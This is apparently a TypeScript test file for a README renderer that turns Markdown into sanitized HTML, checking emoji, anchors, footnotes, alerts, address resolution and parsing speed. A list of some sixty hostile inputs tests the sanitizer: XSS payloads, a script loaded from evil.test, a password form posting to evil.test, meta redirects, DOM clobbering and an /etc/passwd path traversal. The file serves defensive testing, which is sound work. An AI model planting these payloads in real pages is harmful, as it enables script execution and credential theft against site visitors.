import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import type { ReadmeBase } from './addresses.ts'
import { type ReadmeText, renderMarkdown, renderReadme } from './render.ts'

const repository = 'https://github.com/acme/sample'
const files = new Set(['assets/pic.png', 'docs/a.md', 'docs/img/b.gif', 'nodes.py', 'README.md', 'a b/ü.png'])
const inArchive: ReadmeBase = { repository, hasFile: (path) => files.has(path) }

const render = (text: string, base = inArchive, path = 'README.md') =>
  renderReadme({ path, text, format: 'markdown' }, base)

describe('a README', () => {
  it('shows emoji by their short names, outside code', () => {
    assert.equal(
      render('I :heart: nodes, :not-one:, at 10:30:45'),
      '<p>I ❤️ nodes, :not-one:, at 10:30:45</p>',
    )
    assert.equal(render('`:heart:` <b>:+1:</b>'), '<p><code>:heart:</code> <b>👍</b></p>')
    assert.match(render('<h1 align="center">:art: Masks</h1>'), /🎨 Masks/)
    assert.match(render('```yaml\na: :heart:\n```'), /:heart:/)
    assert.match(render('[link](https://acme.test/:heart:)'), /href="https:\/\/acme\.test\/:heart:"/)
    assert.match(render('# :rocket: Start\n\n[start](#rocket-start)'), /href="#user-content-rocket-start"/)
  })

  it('shows formulas as they were written', () => {
    assert.equal(
      render('Before\n$$\na_1 * b_1 * c\n$$\nafter'),
      '<p>Before</p>\n<pre><code class="language-math">a_1 * b_1 * c\n</code></pre>\n<p>after</p>',
    )
    assert.match(render('$$ a_1 * b_1 * c $$'), /<code class="language-math">a_1 \* b_1 \* c\n<\/code>/)
    assert.equal(render('$$ costs'), '<p>$$ costs</p>')
  })

  it('stays fast with formulas that never end', () => {
    assert.match(render('$$a\n'.repeat(50_000)), /^<p>\$\$a/)
  })

  it('keeps a fold visible whose picture was removed', () => {
    const html = render('<details><summary><img src="#x"></summary>Text</details>')
    assert.equal(html, '<details><summary>…</summary>Text</details>')
  })
})

describe('a picture, video or table in a README', () => {
  it('keeps the picture for each color scheme, and links to videos', () => {
    const source = (media: string, srcset: string) => `<source media="${media}" srcset="${srcset}">`
    const html = render(
      `<picture>${source('(prefers-color-scheme: dark)', 'https://a.test/dark.png 1x, https://a.test/2x.png 2x')}` +
        `${source('(min-width: 600px)', 'https://a.test/wide.png')}<img alt="Logo" src="https://a.test/light.png"></picture>`,
    )
    assert.equal(
      html,
      '<p><picture><img src="https://a.test/dark.png" alt="" loading="lazy" class="only-dark" />' +
        '<img alt="Logo" src="https://a.test/light.png" loading="lazy" /></picture></p>',
    )
    for (const video of [
      '<video src="https://a.test/demo.mp4" controls></video>',
      '<video controls><source src="https://a.test/demo.mp4"></video>',
    ])
      assert.match(render(video), /<a href="https:\/\/a\.test\/demo\.mp4" rel="[a-z ]+">demo\.mp4<\/a>/)
  })

  it('keeps the alignment of columns', () => {
    const html = render('| a | b | c |\n| :-: | --: | - |\n| 1 | 2 | 3 |')
    for (const cell of ['<th align="center">a', '<td align="right">2', '<td>3'])
      assert.ok(html.includes(cell), html)
  })
})

describe('an address in a README', () => {
  it('is dropped when invalid, and backslashes make it a path', () => {
    const link = (href: string) => render(`<a href="${href}">models</a>`, { repository })
    assert.doesNotMatch(link('\\\\%SERVER%\\models:x'), /pack\.invalid/)
    assert.match(link('\\\\%SERVER%\\models'), /models/)
    assert.match(link('docs\\a.md'), /github\.com\/acme\/sample\/blob\/HEAD\/docs\/a\.md/)
  })

  it('resolves to the file of the archive', () => {
    assert.match(render('![p](assets/pic.png)'), /src="\.\/assets\/pic\.png"/)
    assert.match(render('![p](./assets/pic.png?raw=true)'), /src="\.\/assets\/pic\.png"/)
    assert.match(render('<img src="/assets/pic.png">'), /src="\.\/assets\/pic\.png"/)
    assert.match(render('![p](<a b/ü.png>)'), /src="\.\/a%20b\/%C3%BC\.png"/)
    assert.match(render('[code](nodes.py#L3)'), /href="\.\/nodes\.py#L3"/)
    assert.match(
      render('![p](img/b.gif) [up](../../nodes.py)', inArchive, 'docs/a.md'),
      /img\/b\.gif.*\.\/nodes\.py/,
    )
  })

  it('resolves to the code host only when the archive lacks the file', () => {
    assert.match(render('![p](no.png)'), /src="https:\/\/github\.com\/acme\/sample\/raw\/HEAD\/no\.png"/)
    assert.match(render('[c](Nodes.py)'), /href="https:\/\/github\.com\/acme\/sample\/blob\/HEAD\/Nodes\.py"/)
    const below = { ...inArchive, repository: `${repository}/tree/main/packs/a` }
    assert.match(render('[c](x.md)', below), /github\.com\/acme\/sample\/blob\/main\/packs\/a\/x\.md"/)
    assert.equal(render('![p](no.png)', {}), '<p></p>')
  })

  it('resolves only in a plain address of a known code host', () => {
    const resolved = (address: string) =>
      /href="([^"]*)"/.exec(render('[c](x.md)', { repository: address }))?.[1]
    for (const address of [
      `${repository}.git`,
      `${repository}/`,
      `${repository}/issues/1`,
      `${repository}?tab=readme`,
      'https://www.GitHub.com/acme/sample',
      'http://github.com/acme/sample',
    ])
      assert.equal(resolved(address), 'https://github.com/acme/sample/blob/HEAD/x.md')
    for (const address of [
      `${repository}/../other`,
      'https://github.com/acme',
      'https://github.com/acme/..',
      'https://github.com:8443/acme/sample',
      'https://me@github.com/acme/sample',
      'https://github.com.test/acme/sample',
    ])
      assert.equal(resolved(address), undefined, address)
  })
})

describe('a forbidden image or field in a README', () => {
  it('is removed, and leaves the following elements intact', () => {
    assert.equal(render('![p](no.png) **bold** text', {}), '<p> <strong>bold</strong> text</p>')
    assert.match(render('![p](no.png) [link](https://example.test) text', {}), /link<\/a> text<\/p>$/)
    assert.equal(
      render('a <input type=text> <b>bold</b> <input type="checkbox"> text', {}),
      '<p>a  <b>bold</b> <input type="checkbox" disabled /> text</p>',
    )
    assert.equal(renderMarkdown('![p](no.png) **bold** text'), '<p> <strong>bold</strong> text</p>')
  })
})
describe('links within a README', () => {
  it('lead to headings by their words', () => {
    const html = render('[jump](#second-part)\n\n## Second part\n\n## Second part\n\n[two](#second-part-1)')
    assert.match(html, /<a href="#user-content-second-part"/)
    assert.match(html, /<h3 id="user-content-second-part">Second part<\/h3>/)
    assert.match(html, /<h3 id="user-content-second-part-1">/)
    assert.match(html, /<a href="#user-content-second-part-1"/)
  })

  it('lead to headings in other scripts, in HTML and in any letter case', () => {
    assert.match(render('[a](#安装)\n\n# 安装'), /href="#user-content-安装".*id="user-content-安装"/s)
    assert.match(render('[a](#%E5%AE%89%E8%A3%85)\n\n# 安装'), /href="#user-content-安装"/)
    assert.match(
      render('[a](#Set-Up)\n\n<h2 align="center">Set <b>up</b></h2>'),
      /href="#user-content-set-up"/,
    )
    assert.match(render('[a](#-install)\n\n## 🚀 Install'), /href="#user-content--install"/)
  })

  it('lead to ids and names that the author chose, with a prefix', () => {
    const html = render(
      '<a name="top2"></a><div id="readme">x</div>\n\n[up](#top2) [r](#readme) [p](README.md#top2)',
    )
    assert.match(html, /<a id="user-content-top2"/)
    assert.match(html, /<div id="user-content-readme">/)
    assert.equal(html.match(/href="#user-content-top2"/g)?.length, 2)
    assert.match(render('[a](#user-content-set-up)\n\n# Set up'), /href="#user-content-set-up"/)
    assert.doesNotMatch(html, / (id|name)="(?!user-content-)/)
  })

  it('become text when they lead nowhere, and go to the top for #', () => {
    assert.doesNotMatch(render('[a](#nowhere)'), /href/)
    assert.match(render('[a](#)'), /href="#"/)
  })

  it('have ids that no other text of the page has', () => {
    const html = renderReadme(
      { path: 'a.md', text: '# A\n\n[a](#a)', format: 'markdown' },
      {},
      'user-content-3-',
    )
    assert.match(html, /id="user-content-3-a".*href="#user-content-3-a"/s)
  })

  it('distinguish quotes and attributes that look like ids', () => {
    const html = render('<a title="x id=" href="https://a.test/#b" id="c">d</a>')
    assert.match(html, /title="x id=" rel|title="x id="/)
    assert.match(html, /href="https:\/\/a\.test\/#b"/)
  })
})

describe('Markdown extensions of code hosts', () => {
  it('render task lists as checkboxes with labels', () => {
    const html = render('- [x] done\n- [ ] **open**\n- [y] no\n\n1. [X] one')
    assert.match(
      html,
      /<li class="task-list-item"><label><input type="checkbox" disabled(="")? checked(="")? \/> done<\/label>/,
    )
    assert.match(html, /<label><input type="checkbox" disabled(="")? \/> <strong>open<\/strong><\/label>/)
    assert.match(html, /<li>\[y\] no/)
    assert.equal(html.match(/<input/g)?.length, 3)
  })

  it('render alerts of all kinds, and other quotes as quotes', () => {
    for (const kind of ['note', 'tip', 'important', 'warning', 'caution']) {
      const html = render(`> [!${kind.toUpperCase()}]\n> A *text*.\n>\n> More.`)
      assert.match(
        html,
        new RegExp(`<div class="markdown-alert markdown-alert-${kind}">\\s*<p class="markdown-alert-title">`),
      )
      assert.match(html, /<p>A <em>text<\/em>\.<\/p>\s*<p>More\.<\/p>\s*<\/div>/)
      assert.doesNotMatch(html, /\[!/)
    }
    assert.match(render('> [!OTHER]\n> a'), /<blockquote>\s*<p>\[!OTHER\]/)
    assert.match(
      render('> a\n> > [!NOTE]\n> > b\n\n> c'),
      /<blockquote>.*<div class.*<\/div>\s*<\/blockquote>\s*<blockquote>/s,
    )
  })

  it('render footnotes with links in both directions', () => {
    const html = render(
      'Text[^1] and[^note], again[^1], not [^2].\n\n[^1]: One *a*.\n[^note]: Two\n    more\n\n    and more.\n\nEnd.',
    )
    assert.match(
      html,
      /<sup><a href="#user-content-footnote-1" rel="[^"]*"[^>]*>1<\/a><\/sup>|id="user-content-footnote-ref-1"/,
    )
    assert.match(html, /<section class="footnotes"><ol><li id="user-content-footnote-1">/)
    assert.match(html, /<em>a<\/em>\. <a href="#user-content-footnote-ref-1"/)
    assert.match(html, /<p>and more\./)
    assert.match(html, /not \[\^2\]/)
    assert.ok(html.indexOf('End.') < html.indexOf('<section'))
    assert.equal(html.match(/id="user-content-footnote-2"/g)?.length, 1)
  })
})

describe('a README in reStructuredText', () => {
  it('is shown as its source', () => {
    const html = renderReadme({ path: 'README.rst', text: 'A\n=\n\n*b* <i>', format: 'plain' }, inArchive)
    assert.equal(html, '<pre>A\n=\n\n*b* &lt;i&gt;</pre>')
  })
})

/** Ways to run code in a page, or to imitate another one. Each must become plain text. */
const hostile = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.test/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<svg onload=alert(1)><a xlink:href="javascript:alert(1)">x</a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" java&#10;script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '![x](javascript:alert(1))',
  '[x]: javascript:alert(1)\n\n[x]',
  '<javascript:alert(1)>',
  '<iframe src="https://evil.test"></iframe>',
  '<object data="x"></object><embed src="x"><applet code="x"></applet>',
  '<form action="https://evil.test"><input name="password" type="password"><button>x</button></form>',
  '<input type="checkbox" onfocus=alert(1) autofocus>',
  '<input type="image" src="https://evil.test/x" onclick=alert(1)>',
  '<label for="x" onclick=alert(1)>x</label>',
  '<style>body{display:none}</style>',
  '<link rel="stylesheet" href="https://evil.test">',
  '<meta http-equiv="refresh" content="0;url=https://evil.test">',
  '<base href="https://evil.test">',
  '<div style="position:fixed;inset:0">x</div>',
  '<div class="fixed inset-0">x</div>',
  '<section class="admin">x</section>',
  '<p onclick="alert(1)">x</p>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<video><source onerror=alert(1)></video>',
  '<video src="https://a.test/%3Cscript%3Ealert(1)%3C/script%3E%3Cimg%20src=x%20onerror=alert(1)%3E"></video>',
  '<video src="javascript:alert(1)"></video>',
  '<picture><source media="(prefers-color-scheme: dark)" srcset="javascript:alert(1)"><img src=x></picture>',
  '<audio src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><script>alert(1)</script></textarea>',
  '<title><script>alert(1)</script></title>',
  '<xmp><script>alert(1)</script></xmp>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<!--><script>alert(1)</script>-->',
  '<!-- <img src="--><img src=x onerror=alert(1)>//">',
  '<a id="__proto__" name="cookie">x</a><form id="document">',
  '<img id="location" src="https://a.test/x.png">',
  '<h1 id="x onmouseover=alert(1)">x</h1>',
  '<h1 id=\'x" onmouseover="alert(1)\'>x</h1>\n\n[y](#x%22%20onmouseover%3D%22alert(1))',
  '# " onmouseover="alert(1)\n\n[x](#-onmouseoveralert1)',
  '# <img src=x onerror=alert(1)>',
  '[^"><script>alert(1)</script>]: x\n\ny[^"><script>alert(1)</script>]',
  '[^1]: <script>alert(1)</script>\n\ny[^1]',
  '> [!NOTE]\n> <script>alert(1)</script>',
  '> [!NOTE"onclick="alert(1)]\n> x',
  '- [ ] <img src=x onerror=alert(1)>',
  '```"><script>alert(1)</script>\ncode\n```',
  '```js onclick=alert(1)\ncode\n```',
  '`<script>alert(1)</script>`',
  'https://evil.test/"onmouseover="alert(1)',
  '<a href="https:/\\evil.test" target="_blank">x</a>',
  '<table background="javascript:alert(1)"><tr><td background="x">y</td></tr></table>',
  '<bdo dir="rtl" onclick=alert(1)>x</bdo><marquee onstart=alert(1)>x</marquee>',
  '<a href="../../../etc/passwd">x</a><img src="../../../etc/passwd">',
]

describe('hostile texts', () => {
  const allowed =
    /^(?:p|div|br|hr|blockquote|pre|details|summary|figure|figcaption|a|b|strong|i|em|u|s|del|ins|sub|sup|kbd|code|span|img|picture|mark|abbr|small|bdi|input|label|section|ul|ol|li|dl|dt|dd|table|thead|tbody|tr|th|td|caption|h[2-6])$/
  const attributes =
    /^(?:href|title|rel|src|alt|width|height|loading|type|disabled|checked|colspan|rowspan|align|scope|start|open|id|class)$/

  function assertHarmless(html: string): void {
    for (const [, name = '', rest = ''] of html.matchAll(
      /<([a-z][a-z0-9]*)((?: [a-z-]+(?:="[^"]*")?)*) ?\/?>/g,
    )) {
      assert.match(name, allowed, html)
      for (const [, key = '', value = ''] of rest.matchAll(/ ([a-z-]+)(?:="([^"]*)")?/g)) {
        assert.match(key, attributes, html)
        if (key === 'id') assert.match(value, /^user-content-[^\s"'<>]+$/, html)
        if (key === 'class')
          assert.match(
            value,
            /^((hljs|language|markdown-alert|task-list)[\w-]*|footnotes)( markdown-alert-\w+)?$/,
            html,
          )
        if (key === 'href') assert.match(value, /^(https?:\/\/|https?:|mailto:|#|\.\/(?!\.\.))/, html)
        if (key === 'src') assert.match(value, /^(https:|\.\/(?!\.\.))/, html)
        if (key === 'type') assert.equal(value, 'checkbox')
      }
    }
    // Every tag must match the allowed pattern.
    const bare = html.replace(/<\/?[a-z][a-z0-9]*(?: [a-z-]+(?:="[^"]*")?)* ?\/?>/g, '')
    assert.doesNotMatch(bare, /</, html)
  }

  for (const format of ['markdown', 'plain'] as const)
    for (const text of hostile)
      it(`run nothing as ${format}: ${JSON.stringify(text)}`, () =>
        assertHarmless(renderReadme({ path: 'README', text, format }, inArchive)))
})

/** Repeating each piece makes a vulnerable parser scan the same characters again and again. */
const pieces: [ReadmeText['format'], string, string][] = [
  ['markdown', '[^1]: a\n\n', '[^'],
  ['markdown', '[^1]: a\n\n', '[^1]'],
  ['markdown', '', '[^a]: [^a]: '],
  ['markdown', '', '> [!NOTE]\n\n'],
  ['markdown', '', '- [ ] '],
  ['markdown', '', '- [x] a\n'],
  ['markdown', '', '# a\n'],
  ['markdown', '# a\n', '[a](#a) '],
  ['markdown', '', '<a id="'],
  ['markdown', '', '<h2>a'],
  ['markdown', '', '![](nodes.py)'],
]

describe('rendering', () => {
  const secondsFor = (format: ReadmeText['format'], text: string) => {
    const before = process.cpuUsage()
    renderReadme({ path: 'README', text, format }, inArchive)
    const { user, system } = process.cpuUsage(before)
    return (user + system) / 1e6
  }

  for (const [format, head, piece] of pieces)
    it(`takes linear time for ${format} such as ${JSON.stringify(piece)}`, () => {
      const text = (length: number) => head + piece.repeat(length / piece.length)
      secondsFor(format, text(10_000))
      const measured: string[] = []
      // Eight times the text takes linear work 8 times as long, and quadratic work 64 times. Other threads count too, now and then.
      const isLinear = () => {
        const [short, long] = [secondsFor(format, text(15_000)), secondsFor(format, text(120_000))]
        measured.push(`${short} s, then ${long} s`)
        return long < 0.1 || long / short < 24
      }
      assert.ok(isLinear() || isLinear() || isLinear(), measured.join('; '))
    })
})

describe('unsupported content', () => {
  it('is removed when it is an image without an address, and the text around it stays', () => {
    const html = render('a <img alt="x"> <img src="https://a.test/b.png"> b')
    assert.equal(html.match(/<img/g)?.length, 1)
    assert.match(html, /^<p>a .*b\.png.* b<\/p>$/)
  })

  it('is shown as source when its HTML would be far longer', () => {
    const address = `http://a.example/${'b'.repeat(50_000)}`
    for (const text of [
      `[a]: ${address}\n\n${'[a]'.repeat(10_000)}`,
      `[a]: ${address}\n\n${'![a]'.repeat(10_000)}`,
      `[a]: ${address.slice(0, 1000)}\n\n${'[a]'.repeat(1000)}`,
      `[^1]: a\n\n${'[^1]'.repeat(10_000)}`,
      '[](a)'.repeat(10_000),
      '# a\n'.repeat(10_000),
    ])
      assert.match(render(text), /^<pre>[^<]{1000,1000000}<\/pre>$/)
    const quotes = renderReadme({ path: 'README', text: '"'.repeat(500_000), format: 'plain' }, {})
    assert.ok(quotes.length <= 1_000_000)
  })

  it('is shown as source when its elements nest too deeply', () => {
    const nested = (depth: number) => `${'<div>'.repeat(depth)}a${'</div>'.repeat(depth)}`
    assert.match(render(nested(200)), /^<div>/)
    assert.match(render(nested(201)), /^<pre>&lt;div&gt;/)
  })
})

describe('code coloring', () => {
  it('is limited in length per block and in the whole text', () => {
    const block = (lines: number) => `\`\`\`py\n${'x = "a"\n'.repeat(lines)}\`\`\`\n`
    const render = (text: string) => renderReadme({ path: 'README.md', format: 'markdown', text }, {})
    const isColored = (html: string) =>
      (html.match(/<pre>.*?<\/pre>/gs) ?? []).map((pre) => pre.includes('hljs-'))
    assert.deepEqual(isColored(render(block(500))), [true])
    assert.deepEqual(isColored(render(block(501))), [false])
    assert.deepEqual(isColored(render(block(500).repeat(13))), [...Array(12).fill(true), false])
  })
})
